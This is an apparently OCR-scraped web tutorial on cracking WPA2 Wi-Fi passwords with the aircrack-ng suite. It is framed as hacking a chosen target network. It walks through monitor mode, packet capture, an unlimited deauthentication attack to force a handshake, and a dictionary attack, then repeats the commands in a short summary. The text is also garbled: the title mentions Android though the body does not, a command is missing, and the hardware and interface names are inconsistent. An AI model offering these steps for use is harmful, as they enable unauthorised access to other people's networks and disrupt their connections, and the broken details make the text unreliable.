How to Hack Wifi Passwords By Installing Kali Linux On Android


How to Hack Wifi Passwords By Installing Kali Linux On Android
Cracking WPA2 Wifi password is not a easy task, so now o can hack it with a click where you don’t need any software for this.

1- Kali Linux or any Linux system with aircrack-ng installed

a- if you don’t have aircrack-ng suite get it by this commend in terminal

sudo apt-get install aircrack-ng2- a wireless network adapter that support monitor mode like

a- Alfa 2W AWUS036NH

b- Alfa AWUS036H

c- wifiy-city 56G

3- a word list comprising of all the possible different combination of pass-phrases

Now let’s get to work

I will be using wifiy-city 56G card on Kali linux 2 sana

1) open up your terminal as root and type


this will display you all the networking interfaces that are connected to your device.


If your wireless network adapter is workingfine you should see the ” wlan0 ” the name may change if you have more then one connected wireless adapter.

2) now to start monitor mode type
airmon-ng start wlan0

‘airmon-ng’ is a traffic monitoring tool

‘wlan0’ is your wireless interface

after this command we started the monitor mode

as we know that the monitor mode is working under wlan0mon , so this is your card name for now

in the red area a list of process id’s that cause trouble during the process so kill those processes by typingkill <pid>

So, according to me :

kill 743 898 1070 1071 1081

now type ifconfig and this will display the newly set monitoring interface i.e, wlan0mon . in most case it will be mon0 .

3) to show list of available WiFi network type

airodump-ng wlan0mon


airodump-ng is a wifi packets capturing tool

wlan0mon is my monitoring interface

airodump-ng will start capturing allpackets and from the captured packets

select your target and note its ‘bssid’ (bssid = base service set identifier) and channel

then stop the capture using “cntrl+c“.

4) Start capturing the packets of your target network

type the following command
airodump-ng -c <channel> -w <name> –bssid <bssid> wlan0mon

i.e: airodump-ng -c 2 -w wifi –bssid C0:4A:00:F0:F4:24 wlan0mon


this will start the capturing of packets.

and if you get the handshake you wont need the aireplay command…

if you don’t get the handshake yetwhile the capturing of packets goes on, open a new terminal as root and type

aireplay-ng -0 0 -a <bssid> mon0

aireplay-ng = tool for deauthentication, fake authentication and other packet injections,

-0 = number associated for deauthentication,

0 = deauth count,

-a = bssid) here we are trying to send a deauthentication request.according to me, the command looks like

aireplay-ng -0 0 -a C0:4A:00:F0:F4:24 wlan0mon


after few seconds stop it using cntrl+c.

now after we have successful captured the wpa handshake

5) Stop the capturing using cntrl+c and type “ls” that would bring up all the current directories and files.

Select the file with “.cap“extension and type the following command

aircrack-ng -w <full location of the word list> <name of the file>

aircrack-ng is a tool that helps in cracking the password

In mycase the command looks like

aircrack-ng -w /usr/share/wordlists/more_than_8.txt ********-01.cap

For the Wordlist Check this Post Best Password dictionary

Now it starts finding suitable passphrase.

and now all you have to do is wait till you see the lovely news ( KEY Found ( your key is here 😉 ).


all Step in few lines

1) airodump-ng wlan0mon

2) airodump-ng -c 9 -w wifi –bssid C4:6E:1F:F6:34:B8 wlan0mon

3) aireplay-ng -0 0 -a C4:6E:1F:F6:34:B8 wlan0mon

4) aircrack-ng -w /usr/share/wordlists/more_than_8.txt wifi-01.cap